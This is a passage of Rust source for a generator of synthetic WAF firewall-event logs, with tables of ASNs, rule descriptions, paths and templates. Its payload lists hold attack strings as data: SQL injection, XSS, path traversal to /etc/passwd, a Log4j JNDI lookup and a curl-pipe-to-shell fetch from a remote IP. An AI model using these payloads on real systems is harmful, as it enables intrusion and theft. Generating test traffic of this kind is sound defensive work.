    (3301, "TELIANET-SWEDEN Telia Company AB", "se", false),
    (58224, "TCI", "ir", false),
    (197207, "MCCI-AS", "ir", false),
    (23969, "TOT-NET TOT Public Company Limited", "th", false),
    (8151, "UNINET", "mx", false),
    (7303, "Telecom Argentina S.A.", "ar", false),
    (37457, "Telkom-Internet", "za", false),
    (3303, "SWISSCOM Swisscom (Schweiz) AG", "ch", false),
    (5432, "PROXIMUS-ISP-AS", "be", false),
    (8447, "A1TELEKOM-AT A1 Telekom Austria AG", "at", false),
    (
        4788,
        "TMNET-AS-AP TM Net, Internet Service Provider",
        "my",
        false,
    ),
    (
        9299,
        "IPG-AS-AP Philippine Long Distance Telephone Company",
        "ph",
        false,
    ),
    (8452, "TE-AS TE-AS", "eg", false),
    (5610, "O2-CZECH-REPUBLIC", "cz", false),
    (8708, "RCS-RDS 73-75 Dr. Staicovici", "ro", false),
    (200651, "FLOKINET", "ro", true),
    (
        60729,
        "ZWIEBELFREUNDE Stiftung Erneuerbare Freiheit",
        "t1",
        true,
    ),
    (208323, "APPLIEDPRIVACY-AS", "t1", true),
    (205100, "F3NETZE", "t1", true),
    (1680, "NV-ASN 013 NetVision Ltd.", "il", false),
    (
        17557,
        "PKTELECOM-AS-PK Pakistan Telecommunication Company Limited",
        "pk",
        false,
    ),
    (24389, "GRAMEENPHONE-AS-AP Grameenphone Ltd.", "bd", false),
    (36873, "VNL1-AS", "ng", false),
    (3816, "COLOMBIA TELECOMUNICACIONES S.A. ESP", "co", false),
    (7418, "TELEFONICA CHILE S.A.", "cl", false),
    (6147, "Telefonica del Peru S.A.A.", "pe", false),
    (1759, "TSF-IP-CORE", "fi", false),
    (3292, "TDC TDC Holding A/S", "dk", false),
    (2119, "TELENOR-NEXTEL Telenor Norge AS", "no", false),
    (5466, "EIRCOM", "ie", false),
    (3243, "MEO-RESIDENCIAL", "pt", false),
    (5483, "HTCL-IAS Magyar Telekom Plc.", "hu", false),
    (6799, "OTENET-GR Athens - Greece", "gr", false),
    (25019, "SAUDINETSTC-AS", "sa", false),
    (5384, "EMIRATES-INTERNET Emirates Internet", "ae", false),
    (9198, "KAZTELECOM-AS", "kz", false),
    (
        6697,
        "BELPAK-AS Republican Unitary Telecommunication Enterprise Beltelecom",
        "by",
        false,
    ),
    (9790, "CALLPLUS-NZ-AP Vocus Group NZ", "nz", false),
    (8048, "CANTV Servicios, Venezuela", "ve", false),
    (36903, "MT-MPLS", "ma", false),
    (36947, "ALGTEL-AS", "dz", false),
    (33771, "SAFARICOM-LIMITED", "ke", false),
    (0, "", "xx", false),
];

const ASN_WORDS: &[&str] = &[
    "NETCOM",
    "TELNET",
    "SKYNET",
    "FASTNET",
    "GLOBALNET",
    "LINKNET",
    "CABLENET",
    "MOBILINK",
    "AIRNET",
    "DATACOM",
    "INFONET",
    "UNITEL",
    "STARNET",
    "WAVECOM",
    "FIBERLINK",
    "NETHOST",
    "CLOUDIX",
    "HOSTWAY",
    "SERVERIA",
    "METRONET",
];
const ASN_SUFFIXES: &[&str] = &[
    "Ltd",
    "S.A.",
    "LLC",
    "Telecom",
    "Communications Ltd",
    "Internet Services",
    "S.R.L.",
    "SARL",
    "Ltda",
    "Hosting GmbH",
    "Networks, Inc.",
];

/// Managed-style descriptions by category.
const SQLI_DESCS: &[&str] = &[
    "SQLi - Comparison",
    "SQLi - Tautology",
    "SQLi - Sleep Function",
    "SQLi - String Function",
    "SQLi - UNION in MSSQL",
    "SQLi - Benchmark Function",
    "SQLi - Obfuscated Boolean",
    "SQLi - AND/OR MAKE_SET/ELT",
    "SQLi - Equation",
    "SQLi - Comment",
    "SQLi - Common Payloads",
    "SQL Injection Attack Detected via libinjection",
    "Detects MSSQL code execution and information gathering attempts",
    "Detects blind sqli tests using sleep() or benchmark()",
    "NoSQL, MongoDB - SQLi - Comparison",
    "NoSQL, MongoDB - SQLi - Expression",
];
const XSS_DESCS: &[&str] = &[
    "XSS - JS On Events",
    "XSS - HTML Encoding",
    "XSS - JavaScript URI",
    "XSS - Script Tag",
    "XSS - DOM Sinks",
    "AngularJS - XSS",
    "Generic Payloads XSS",
    "XSS Attack Detected via libinjection",
    "NoScript XSS InjectionChecker: HTML Injection",
    "IE XSS Filters - Attack Detected",
];
const RCE_DESCS: &[&str] = &[
    "Command Injection - Common Attack Commands",
    "Command Injection - Nslookup",
    "Command Injection - CVE:CVE-2014-6271",
    "Remote Code Execution - Generic Payloads",
    "Log4j Headers",
    "Log4j Body Obfuscation",
    "PHP - Code Injection",
    "Groovy - Remote Code Execution",
    "Java - Deserialization - 2",
    "Server-Side Includes - Common Payloads",
    "Common Payloads for Server-side Template Injection",
];
const LFI_DESCS: &[&str] = &[
    "Generic System - File Inclusion",
    "Generic Log - File Inclusion",
    "Generic Webservers - File Inclusion",
    "Default Windows User - Directory Traversal",
    "PHP - File Inclusion",
    "Nginx - File Inclusion",
    "Path Traversal Attack (/../)",
    "OS File Access Attempt",
];
const RFI_DESCS: &[&str] = &[
    "Remote File Inclusion - URL Parameter using IP Address",
    "Remote File Inclusion - Common RFI Vulnerable Parameter Name",
    "Remote File Inclusion - Off-Domain Reference/Link",
    "PHP - Remote File Inclusion",
];
const SSRF_DESCS: &[&str] = &[
    "SSRF - Cloud Metadata Endpoint",
    "SSRF - Localhost",
    "GraphQL SSRF",
    "Generic XXE Attack",
    "Generic XXE Attack 2",
];
const AUTH_DESCS: &[&str] = &[
    "Authentication Bypass - Default Credentials",
    "ConnectWise - Auth Bypass",
    "Clerk - Auth Bypass",
    "JWT - Algorithm None",
];
const SCANNER_DESCS: &[&str] = &[
    "Vulnerability scanner activity",
    "Vulnerability scanner activity 2",
    "Vulnerability scanner activity 3",
    "Nikto scanner",
    "Acunetix scanner",
    "WPScan enumeration",
    "Sensitive file access - .env",
    "Sensitive file access - .git",
    "Common webshell access",
];
const PROTO_DESCS: &[&str] = &[
    "Anomaly:Header:User-Agent - Missing",
    "Anomaly:Method - Not known",
    "Anomaly:Header:Content-Type - Multiple",
    "Anomaly:URL:Path - Multiple Slashes, Relative Paths, CR, LF or NULL",
    "HTTP Request Smuggling Attack",
    "Invalid UTF-8 encoding",
    "Request content type is not allowed by policy",
    "Host header is a numeric IP address",
];
const ANOM_DESCS: &[&str] = &[
    "Anomaly:Body - Large",
    "Anomaly:Header:X-Forwarded-Host",
    "Anomaly:Port - Non Standard Port (not 80 or 443)",
    "Anomaly:Header:User-Agent - \"Fake Google Bot\"",
    "Anomaly:Header:Referer - Suspicious",
    "Inbound Anomaly Score Exceeded",
];
const DESC_SUFFIXES: &[&str] = &[
    " 2",
    " 3",
    " Beta",
    " Base64 Beta",
    " - Body",
    " - Headers",
    " - URI",
];
const PRODUCTS: &[&str] = &[
    "Adobe ColdFusion",
    "Palo Alto Networks",
    "SolarWinds",
    "GoAnywhere",
    "Apache OFBiz",
    "Ivanti",
    "Junos",
    "Microsoft SQL Server",
    "Joomla",
    "Progress Software WhatsUp Gold",
    "VMware vCenter",
    "Atlassian Confluence",
    "Jenkins",
    "Zoho ManageEngine",
    "Apache Struts",
    "Citrix ADC",
    "F5 BIG-IP",
    "Fortinet FortiOS",
    "Liferay",
    "pfSense",
    "Wordpress:Plugin:Bricks Builder Theme",
    "JetBrains TeamCity",
    "Telerik Report Server",
    "MoveIT",
    "Check Point Security",
    "Spring Cloud Gateway",
    "Oracle WebLogic",
    "Microsoft Exchange",
    "Drupal",
    "Magento",
];

const CUSTOM_VERBS: &[&str] = &[
    "Block",
    "Challenge",
    "Log",
    "Skip WAF for",
    "Managed challenge",
];
const CUSTOM_TARGETS: &[&str] = &[
    "bad bots on /wp-login.php",
    "non-US admin access",
    "known bad ASNs",
    "empty user agents",
    "requests to /.env",
    "API clients without key",
    "POST to /xmlrpc.php",
    "traffic from Tor",
    "high threat score",
    "countries RU, CN, KP",
    "scrapers on /product/*",
    "legacy TLS clients",
    "uptime monitor",
    "internal office IPs",
    "partner API (ref: \"acme\")",
    "credential stuffing on /login",
];
const DDOS_DESCS: &[&str] = &[
    "HTTP DDoS - Randomized floods",
    "Requests coming from known bad sources",
    "HTTP requests with unusual HTTP headers or URI path (signature #",
    "HTTP requests from known botnet (signature #",
    "HTTP requests trying to impersonate browsers (pattern #",
    "Generic HTTP flood",
    "Adaptive DDoS - Origin error rate",
];
const BOT_DESCS: &[&str] = &[
    "Bot Fight Mode",
    "Definitely automated",
    "Likely automated",
    "Verified bots",
    "Static resource protection",
    "JavaScript detections",
    "Super Bot Fight Mode - definitely automated",
    "Browser Integrity Check",
];
const DLP_PROFILES: &[&str] = &[
    "Credit Card Numbers",
    "U.S. Social Security Numbers",
    "AWS Keys",
    "Malaysia Identification Card Number",
    "Malaysian Phone Number",
    "IBAN",
];
const BOT_SOURCES: &[&str] = &[
    "Heuristics",
    "Machine Learning",
    "JS Fingerprinting",
    "Verified Bot",
];
const CRS_GROUPS: &[&str] = &[
    "OWASP-SQLI",
    "OWASP-XSS",
    "OWASP-RCE",
    "OWASP-LFI",
    "OWASP-RFI",
    "OWASP-PROTOCOL",
    "OWASP-SCANNER",
    "OWASP-ANOMALY",
];
const WORDS: &[&str] = &[
    "shoes",
    "laptop",
    "coffee",
    "garden",
    "router",
    "jacket",
    "camera",
    "printer",
    "guitar",
    "monitor",
    "keyboard",
    "sofa",
    "lamp",
    "watch",
    "backpack",
    "tent",
    "drone",
    "bike",
    "kettle",
    "mouse",
    "tablet",
    "headphones",
    "charger",
    "speaker",
    "desk",
    "chair",
    "mirror",
    "rug",
    "blender",
    "toaster",
    "wallet",
    "sneakers",
    "hoodie",
    "scarf",
    "gloves",
    "helmet",
    "racket",
    "yoga",
    "protein",
    "vitamin",
    "shampoo",
    "perfume",
    "candle",
    "notebook",
    "pen",
    "stapler",
    "pixel",
    "galaxy",
    "iphone",
    "macbook",
    "thinkpad",
    "kindle",
    "switch",
    "playstation",
    "xbox",
    "lego",
    "puzzle",
    "novel",
    "cookbook",
    "atlas",
    "summer",
    "winter",
    "sale",
    "new",
    "best",
    "cheap",
    "red",
    "blue",
    "black",
    "white",
    "wireless",
    "organic",
    "vintage",
    "mini",
    "pro",
    "ultra",
];
const HOSTS: &[&str] = &[
    "www.example.com",
    "api.example.com",
    "example.com",
    "shop.example.com",
    "blog.example.com",
    "app.acme-corp.io",
    "m.example.com",
    "cdn.example.net",
    "portal.acme-corp.io",
    "auth.acme-corp.io",
    "admin.example.com",
    "static.example.net",
    "status.example.org",
    "docs.example.org",
    "mail.example.com",
];
const REF_HOSTS: &[&str] = &[
    "www.google.com",
    "www.bing.com",
    "duckduckgo.com",
    "t.co",
    "l.facebook.com",
    "www.baidu.com",
    "yandex.ru",
    "news.ycombinator.com",
    "www.reddit.com",
    "search.yahoo.co.jp",
];
const METHODS: [&str; 7] = ["GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS"];
const PROTOCOLS: [&str; 4] = ["HTTP/2", "HTTP/1.1", "HTTP/3", "HTTP/1.0"];

/// Method profiles (index into `METHOD_PROFILES`).
const M_BROWSE: u8 = 0;
const M_API: u8 = 1;
const M_LOGIN: u8 = 2;
const M_PROBE: u8 = 3;
const M_STATIC: u8 = 4;
const METHOD_PROFILES: [&[(u8, u32)]; 5] = [
    &[(0, 92), (2, 4), (1, 3), (6, 1)],
    &[(0, 55), (1, 30), (3, 8), (4, 4), (5, 3)],
    &[(1, 65), (0, 35)],
    &[(0, 85), (1, 10), (2, 5)],
    &[(0, 97), (2, 3)],
];

/// Query sets (index into `QUERY_SETS`).
const Q_NONE: u8 = 0;
const Q_GEN: u8 = 1;
const Q_SEARCH: u8 = 2;
const Q_API: u8 = 3;
const Q_WP: u8 = 4;
const Q_STATIC: u8 = 5;
const QUERY_SETS: [&[(&str, u32)]; 6] = [
    &[("", 1)],
    &[
        ("", 70),
        ("utm_source={utm}&utm_medium=cpc&utm_campaign={w}", 8),
        ("ref={w}", 5),
        ("v={n5}", 7),
        ("_={ts}", 5),
        ("id={n6}", 5),
    ],
    &[
        ("q={w}", 5),
        ("q={w}+{w}&page={n2}", 3),
        ("q={w}&sort=price_asc&page={n2}", 2),
    ],
    &[
        ("", 6),
        ("limit={n2}&offset={n4}", 3),
        ("fields=id,name,status&expand=items", 1),
    ],
    &[
        ("", 8),
        ("action=lostpassword", 1),
        (
            "redirect_to=https%3A%2F%2Fwww.example.com%2Fwp-admin%2F&reauth=1",
            2,
        ),
    ],
    &[("", 8), ("v={hk}", 2)],
];

/// Request path templates: (pattern, weight, method profile, query set).
const PATHS: &[(&str, u32, u8, u8)] = &[
    ("/", 80, M_BROWSE, Q_GEN),
    ("/index.php", 12, M_BROWSE, Q_GEN),
    ("/wp-login.php", 40, M_LOGIN, Q_WP),
    ("/xmlrpc.php", 22, M_LOGIN, Q_NONE),
    ("/wp-admin/admin-ajax.php", 14, M_API, Q_WP),
    ("/wp-content/plugins/{w}/readme.txt", 6, M_PROBE, Q_NONE),
    ("/.env", 14, M_PROBE, Q_NONE),
    ("/.git/config", 8, M_PROBE, Q_NONE),
    ("/api/v1/users/{n7}/orders", 30, M_API, Q_API),
    ("/api/v1/users/{n7}", 14, M_API, Q_API),
    ("/api/v2/products/{n6}", 24, M_API, Q_API),
    ("/api/v2/products/{n6}/reviews", 8, M_API, Q_API),
    ("/api/v1/orders/{uuid}", 14, M_API, Q_API),
    ("/api/v1/sessions", 16, M_LOGIN, Q_NONE),
    ("/api/v1/auth/token", 10, M_LOGIN, Q_NONE),
    ("/api/v1/search", 8, M_API, Q_SEARCH),
    ("/graphql", 12, M_API, Q_NONE),
    ("/search", 28, M_BROWSE, Q_SEARCH),
    ("/static/js/{w}.{hk}.js", 14, M_STATIC, Q_STATIC),
    ("/images/{n6}.jpg", 16, M_STATIC, Q_STATIC),
    ("/blog/{y}/{m}/{slug}-{n5}", 12, M_BROWSE, Q_GEN),
    ("/product/{slug}-{n6}.html", 16, M_BROWSE, Q_GEN),
    ("/category/{w}", 10, M_BROWSE, Q_GEN),
    ("/cart/{n7}", 8, M_BROWSE, Q_NONE),
    ("/checkout", 6, M_LOGIN, Q_GEN),
    ("/account/login", 18, M_LOGIN, Q_GEN),
    ("/login", 20, M_LOGIN, Q_GEN),
    ("/admin", 8, M_PROBE, Q_NONE),
    ("/administrator/index.php", 5, M_PROBE, Q_NONE),
    ("/phpmyadmin/index.php", 5, M_PROBE, Q_NONE),
    (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        5,
        M_PROBE,
        Q_NONE,
    ),
    ("/cgi-bin/luci/;stok=/locale", 3, M_PROBE, Q_NONE),
    ("/actuator/env", 4, M_PROBE, Q_NONE),
    ("/boaform/admin/formLogin", 3, M_LOGIN, Q_NONE),
    ("/owa/auth/logon.aspx", 3, M_PROBE, Q_GEN),
    ("/user/{user}/profile", 8, M_BROWSE, Q_NONE),
    ("/favicon.ico", 10, M_STATIC, Q_NONE),
    ("/robots.txt", 10, M_STATIC, Q_NONE),
    ("/sitemap.xml", 5, M_STATIC, Q_NONE),
    ("/downloads/{w}-{n1}.{n1}.{n2}.tar.gz", 4, M_STATIC, Q_NONE),
];

/// Attack-looking query strings by rule category (raw; escaped at build).
const SQLI_PAYLOADS: &[&str] = &[
    "id=1%27%20OR%20%271%27%3D%271",
    "id={n4}' OR '1'='1",
    "q=1 UNION SELECT username,password FROM users--",
    "user=admin'--",
    "id={n3};DROP TABLE users",
    "id=-1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--",
    "cat={n2} AND 1=1",
    "sort=(CASE WHEN (1=1) THEN name ELSE price END)",
];
const XSS_PAYLOADS: &[&str] = &[
    "q=<script>alert(1)</script>",
    "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "name=\"><img src=x onerror=alert({n3})>",
    "redirect=javascript:alert(1)",
    "msg=<svg onload=alert`1`>",
];
const LFI_PAYLOADS: &[&str] = &[
    "file=../../../../etc/passwd",
    "page=..%2F..%2F..%2Fetc%2Fpasswd",
    "path=..\\..\\..\\windows\\win.ini",
    "template=/proc/self/environ",
];
const RCE_PAYLOADS: &[&str] = &[
    "cmd=;cat /etc/passwd",
    "exec=$(curl http://45.9.148.{n2}/x.sh|sh)",
    "x=${jndi:ldap://198.51.100.{n2}:1389/a}",
    "c=|id",
    "q=%7B%7B7*7%7D%7D",
];
const RFI_PAYLOADS: &[&str] = &[
    "page=http://203.0.113.{n2}/shell.txt?",
    "include=https://pastebin.com/raw/{hk}",
];
const SSRF_PAYLOADS: &[&str] = &[
    "url=http://169.254.169.254/latest/meta-data/",
    "dest=http://127.0.0.1:{n4}/admin",
    "callback=gopher://localhost:6379/_INFO",
];

/// The injected attack's request shapes: (path, query) patterns.
const ATTACK_UA: &str = "sqlmap/1.7.2#stable (https://sqlmap.org)";
const ATTACK_PREFIXES: &[&str] = &["/admin/", "/.env", "/wp-admin/setup-config.php"];
const ATTACK_REQS: &[(&str, &str)] = &[
    (
        "/admin/login.php",
        "username=admin' AND SLEEP(5)-- -&password=x",
    ),
    ("/admin/index.php", "id={n3}%27%20AND%201%3D1--%20-"),
    (
        "/admin/users.php",
        "uid={n4}) UNION ALL SELECT NULL,NULL,CONCAT(0x7178787171,0x4a6b)-- -",
    ),
    (
        "/admin/config.php",
        "id={n3} AND (SELECT {n4} FROM (SELECT(SLEEP(5)))abc)",
    ),
    ("/admin/download.php", "file=../../../../etc/passwd"),
    ("/admin/download.php", "file=..\\..\\..\\windows\\win.ini"),
    ("/admin/api/export", "format=csv&filter=1\" OR \"1\"=\"1"),
    ("/admin/search.php", "q=<script>alert(\"x\")</script>"),
    ("/.env", ""),
    (
        "/wp-admin/setup-config.php",
        "step=1&language=..%2F..%2F..%2Fetc%2Fpasswd",
    ),
    ("/wp-admin/setup-config.php", "step=2&dbname=wp' OR '1'='1"),
];

// ----------------------------------------------------------- templates ----

/// One piece of a path/query template.
#[derive(Clone, Debug)]
enum Seg {
    Lit(Vec<u8>),
    Num(u64),
    HexKey,
    Uuid,
    Slug,
    Year,
    Month,
    Word,
    User,
    Ts,
    Utm,
}

/// A parsed template: literal parts are stored JSON-escaped.
#[derive(Clone, Debug)]
struct Tpl(Vec<Seg>);

impl Tpl {
    fn parse(pattern: &str) -> Tpl {
        let mut segs = Vec::new();
        let mut rest = pattern;
        while let Some(open) = rest.find('{') {
            let close = match rest[open..].find('}') {
                Some(c) => open + c,
                None => break,
            };
            match placeholder(&rest[open + 1..close]) {
                Some(seg) => {
                    push_lit(&mut segs, &rest[..open]);
                    segs.push(seg);
                    rest = &rest[close + 1..];
                }
                None => {
                    push_lit(&mut segs, &rest[..=open]);
                    rest = &rest[open + 1..];
                }
            }
        }
        push_lit(&mut segs, rest);
        Tpl(segs)
    }

    fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

fn push_lit(segs: &mut Vec<Seg>, s: &str) {
    if s.is_empty() {
        return;
    }
    if let Some(Seg::Lit(prev)) = segs.last_mut() {
        escape_into(prev, s);
    } else {
        segs.push(Seg::Lit(esc(s)));
    }
}

fn placeholder(name: &str) -> Option<Seg> {
    Some(match name {
        "n1" => Seg::Num(9),
        "n2" => Seg::Num(99),
        "n3" => Seg::Num(999),
        "n4" => Seg::Num(9_999),
        "n5" => Seg::Num(99_999),
        "n6" => Seg::Num(999_999),
        "n7" => Seg::Num(9_999_999),
        "hk" => Seg::HexKey,
        "uuid" => Seg::Uuid,
        "slug" => Seg::Slug,
        "y" => Seg::Year,
        "m" => Seg::Month,
        "w" => Seg::Word,
        "user" => Seg::User,
        "ts" => Seg::Ts,
        "utm" => Seg::Utm,
        _ => return None,
    })
}

fn write_tpl(b: &mut Vec<u8>, tpl: &Tpl, rng: &mut Rng) {
    for seg in &tpl.0 {
        match seg {
            Seg::Lit(l) => b.extend_from_slice(l),
            Seg::Num(max) => push_u64(b, rng.range(1, *max)),
            Seg::HexKey => push_hex(b, splitmix(&mut rng.below(64)), 8),
            Seg::Uuid => write_uuid(b, rng),
            Seg::Slug => {
                b.extend_from_slice(rng.pick(WORDS).as_bytes());
                b.push(b'-');
                b.extend_from_slice(rng.pick(WORDS).as_bytes());
            }
            Seg::Year => push_u64(b, rng.range(2016, 2024)),
            Seg::Month => push_padded(b, rng.range(1, 12), 2),
            Seg::Word => b.extend_from_slice(rng.pick(WORDS).as_bytes()),
            Seg::User => {
                b.extend_from_slice(rng.pick(WORDS).as_bytes());
                push_u64(b, rng.below(1000));
            }
            Seg::Ts => push_u64(b, 1_717_000_000_000 + rng.below(2_000_000_000)),
            Seg::Utm => b.extend_from_slice(
                rng.pick(&["google", "newsletter", "facebook", "bing", "partner"])
                    .as_bytes(),
            ),
        }
    }
}

fn write_uuid(b: &mut Vec<u8>, rng: &mut Rng) {
    let hi = rng.next_u64();
    let lo = rng.next_u64();
    push_hex(b, hi >> 32, 8);
    b.push(b'-');
    push_hex(b, hi >> 16, 4);
    b.push(b'-');
    push_hex(b, 0x4000 | (hi & 0x0fff), 4);
    b.push(b'-');
    push_hex(b, 0x8000 | (lo >> 50), 4);
    b.push(b'-');
    push_hex(b, lo, 12);
}

// ------------------------------------------------------- table structs ----

struct Rule {
    id: String,
    desc: String,
    source: usize,
    category: u8,
    severity: u8,
    pref_action: u8,
    /// `,"Description":"...","EdgeColoCode":"`
    frag_desc: Vec<u8>,
    /// `","Ref":"...","RuleID":"...","Source":"..."}` (after RayID value)
    frag_tail: Vec<u8>,
    /// Metadata object text, complete unless `meta_dyn` is set.
    meta: Vec<u8>,
    /// 0: none; otherwise the per-event number's max, written then `"}`.
    meta_dyn: u64,
    in_map: bool,
}

struct Country {
    code: &'static str,
    colos: Vec<&'static str>,
    asns: Vec<u16>,
    asn_cdf: Cdf,
}

struct Asn {
    number: u32,
    desc: String,
    country: u16,
    hosting: bool,
    /// High 16 bits of this ASN's IPv4 /16 prefixes.
    v4: Vec<u16>,
    /// First 32 bits of its IPv6 prefix.
    v6: u32,
    /// `12345,"ClientASNDescription":"...","ClientCountry":"us","ClientIP":"`
    frag: Vec<u8>,
}

/// Strings packed into one buffer.
#[derive(Default)]
struct Arena {
    data: Vec<u8>,
    spans: Vec<(u32, u32)>,
}

impl Arena {
    fn push(&mut self, bytes: &[u8]) {
        let start = self.data.len() as u32;
        self.data.extend_from_slice(bytes);
        self.spans.push((start, self.data.len() as u32));
    }

    #[inline]
    fn get(&self, i: usize) -> &[u8] {
        let (a, z) = self.spans[i];
        &self.data[a as usize..z as usize]
    }

    fn len(&self) -> usize {
        self.spans.len()
    }
}

#[derive(Clone, Copy)]
struct IpMeta {
    asn: u16,
    class: u8,
    home_ua: u32,
}

/// IP strings with their fixed attributes and a Zipf sampler.
struct IpTable {
    text: Arena,
    meta: Vec<IpMeta>,
    cdf: Cdf,
}

struct PathTpl {
    tpl: Tpl,
    method: u8,
    qset: u8,
}

struct Attack {
    enabled: bool,
    count: u64,
    start_min: u64,
    minutes: u64,
    asns: Vec<u16>,
    ips: IpTable,
    rules: Vec<usize>,
    rule_cdf: Cdf,
    reqs: Vec<(Tpl, Tpl)>,
}

/// The deterministic `firewall_events` generator; see the module docs.
pub struct Synth {
    cfg: SynthConfig,
    rules: Vec<Rule>,
    /// Rules that appear only in the rule map (never in events).
    map_only: Vec<Rule>,
    rule_cdf: Cdf,
    src_alts: Vec<Weighted<u8>>,
    countries: Vec<Country>,
    asns: Vec<Asn>,
    ips: IpTable,
    uas: Arena,
    ua_cdf: Cdf,
    hosts: Cdf,
    paths: Vec<PathTpl>,
    path_cdf: Cdf,
    method_w: Vec<Weighted<u8>>,
    queries: Vec<(Vec<Tpl>, Cdf)>,
    payloads: Vec<Vec<Tpl>>,
    protocols: Weighted<u8>,
    minute_w: Vec<u32>,
    attack: Attack,
}

// ------------------------------------------------------------- geo/ASN ----

fn valid_v4_prefix(p: u16) -> bool {
    let a = p >> 8;
    let b = p & 0xff;
    !(a == 0
        || a == 10
        || a == 127
        || a >= 224
        || (a == 100 && (64..128).contains(&b))
        || (a == 169 && b == 254)
        || (a == 172 && (16..32).contains(&b))
        || (a == 192 && b == 168)
        || (a == 198 && (18..20).contains(&b)))
}

fn fresh_prefixes(rng: &mut Rng, used: &mut HashSet<u16>, n: usize) -> Vec<u16> {
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let p = rng.below(0xE000) as u16;
        if valid_v4_prefix(p) && used.insert(p) {
            out.push(p);
        }
    }
    out
}

fn asn_frag(number: u32, desc: &str, cc: &str) -> Vec<u8> {
    let mut f = Vec::new();
    push_u64(&mut f, u64::from(number));
    f.extend_from_slice(b",\"ClientASNDescription\":\"");
    escape_into(&mut f, desc);
    f.extend_from_slice(b"\",\"ClientCountry\":\"");
    escape_into(&mut f, cc);
    f.extend_from_slice(b"\",\"ClientIP\":\"");
    f
}

fn make_asn(
    rng: &mut Rng,
    used: &mut HashSet<u16>,
    entry: (u32, String, u16, bool),
    cc: &str,
) -> Asn {
    let (number, desc, country, hosting) = entry;
    let n_pref = if hosting { 4 } else { 2 + rng.idx(3) };
    Asn {
        number,
        frag: asn_frag(number, &desc, cc),
        desc,
        country,
        hosting,
        v4: fresh_prefixes(rng, used, n_pref),
        v6: 0x2001_0000 + rng.below(0x0c00_0000) as u32,
    }
}

fn synthetic_asn_name(rng: &mut Rng, cc: &str, hosting: bool) -> String {
    let w = rng.pick(ASN_WORDS);
    let title: String = w
        .chars()
        .enumerate()
        .map(|(i, c)| if i == 0 { c } else { c.to_ascii_lowercase() })
        .collect();
    let suffix = if hosting {
        "Hosting GmbH"
    } else {
        rng.pick(ASN_SUFFIXES)
    };
    format!("{w}-{} {title} {suffix}", cc.to_ascii_uppercase())
}

fn build_geo(seed: u64) -> (Vec<Country>, Vec<Asn>) {
    let mut rng = Rng::new(seed, ST_GEO);
    let mut used_pref = HashSet::new();
    let mut used_num: HashSet<u32> = REAL_ASNS.iter().map(|a| a.0).collect();
    let cidx = |cc: &str| COUNTRIES.iter().position(|c| *c == cc).unwrap_or(0) as u16;
    let mut asns = Vec::new();
    for &(num, desc, cc, hosting) in REAL_ASNS {
        let e = (num, desc.to_string(), cidx(cc), hosting);
        asns.push(make_asn(&mut rng, &mut used_pref, e, cc));
    }
    for (ci, cc) in COUNTRIES.iter().enumerate() {
        let have = asns.iter().filter(|a| a.country as usize == ci).count();
        let extra = if ci < 30 {
            3
        } else if have == 0 {
            1 + rng.idx(2)
        } else {
            0
        };
        for k in 0..extra {
            let num = loop {
                let n = rng.range(131_072, 399_999) as u32;
                if used_num.insert(n) {
                    break n;
                }
            };
            let hosting = k == 0 && ci < 30;
            let desc = synthetic_asn_name(&mut rng, cc, hosting);
            let e = (num, desc, ci as u16, hosting);
            asns.push(make_asn(&mut rng, &mut used_pref, e, cc));
        }
    }
    let countries = build_countries(&asns);
    (countries, asns)
}

fn build_countries(asns: &[Asn]) -> Vec<Country> {
    COUNTRIES
        .iter()
        .enumerate()
        .map(|(ci, &code)| {
            let list: Vec<u16> = (0..asns.len())
                .filter(|&a| asns[a].country as usize == ci)
                .map(|a| a as u16)
                .collect();
            let mut colos: Vec<&'static str> = colos_for(code).to_vec();
            if colos.is_empty() {
                colos.push(FALLBACK_COLOS[ci % FALLBACK_COLOS.len()]);
                colos.push(FALLBACK_COLOS[(ci * 7 + 3) % FALLBACK_COLOS.len()]);
            }
            Country {
                code,
                colos,
                asn_cdf: Cdf::zipf(list.len(), 4),
                asns: list,
            }
        })
        .collect()
}

// ------------------------------------------------------------- IP pool ----

fn write_v4(b: &mut Vec<u8>, ip: u32) {
    for (i, shift) in [24u32, 16, 8, 0].iter().enumerate() {
        if i > 0 {
            b.push(b'.');
        }
        push_u64(b, u64::from((ip >> shift) & 0xff));
    }
}

/// `pfx_hi:pfx_lo:g2:g3::g7` or all eight groups, never with a zero group,
/// so the text is canonical RFC 5952 form.
fn write_v6(b: &mut Vec<u8>, groups: &[u16; 8], short: bool) {
    let used: &[u16] = if short { &groups[..4] } else { &groups[..] };
    for (i, g) in used.iter().enumerate() {
        if i > 0 {
            b.push(b':');
        }
        push_hex_trim(b, u64::from(*g));
    }
    if short {
        b.extend_from_slice(b"::");
        push_hex_trim(b, u64::from(groups[7]));
    }
}

fn push_hex_trim(b: &mut Vec<u8>, v: u64) {
    let nibbles = ((64 - v.leading_zeros()).div_ceil(4)).max(1);
    push_hex(b, v, nibbles);
}

fn pick_asn(rng: &mut Rng, countries: &[Country], country_cdf: &Cdf) -> u16 {
    loop {
        let c = &countries[country_cdf.sample(rng)];
        if !c.asns.is_empty() {
            return c.asns[c.asn_cdf.sample(rng)];
        }
    }
}

fn ip_class(rng: &mut Rng, asn: &Asn, cc: &str) -> u8 {
    if cc == "t1" {
        return 7;
    }
    let r = rng.below(100);
    if asn.hosting {
        match r {
            0..=59 => 5,
            60..=74 => 1,
            75..=89 => 6,
            _ => 0,
        }
    } else {
        match r {
            0..=84 => 5,
            85..=90 => 0,
            91..=93 => 2,
            94..=96 => 1,
            97 => 4,
            98 => 3,
            _ => 6,
        }
    }
}

/// Draws one IP in `asn`'s space as (numeric key, text); empty text if the
/// address falls in an excluded /24.
fn draw_ip(rng: &mut Rng, asn: &Asn, v6: bool, excluded: &[u32]) -> (u128, Vec<u8>) {
    let mut b = Vec::with_capacity(40);
    if v6 {
        let mut g = [0u16; 8];
        g[0] = (asn.v6 >> 16) as u16;
        g[1] = (asn.v6 as u16).max(1);
        for x in g.iter_mut().skip(2) {
            *x = rng.range(1, 0xffff) as u16;
        }
        let short = rng.percent(50);
        if short {
            g[4..7].fill(0);
        }
        write_v6(&mut b, &g, short);
        let key = g.iter().fold(0u128, |k, &x| (k << 16) | u128::from(x));
        return (key, b);
    }
    let pfx = u32::from(*rng.pick(&asn.v4));
